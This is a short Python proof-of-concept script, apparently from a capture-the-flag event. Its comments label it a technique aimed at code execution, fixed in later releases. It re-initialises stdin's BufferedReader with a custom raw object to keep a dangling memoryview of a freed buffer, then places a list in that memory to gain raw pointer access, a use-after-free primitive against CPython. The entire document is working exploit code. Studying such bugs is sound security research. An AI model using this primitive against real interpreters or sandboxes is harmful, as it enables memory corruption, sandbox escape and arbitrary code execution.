# technique: the BufferedReader of standard input is given another raw object by its __init__
# goal: code
# source: pwn.win 2022
# mended: later releases
import io
import sys


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True


reader = sys.stdin.buffer
reader.__init__(Raw(), 8192)
reader.read(1)
reader.__init__(Raw(), 64)
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
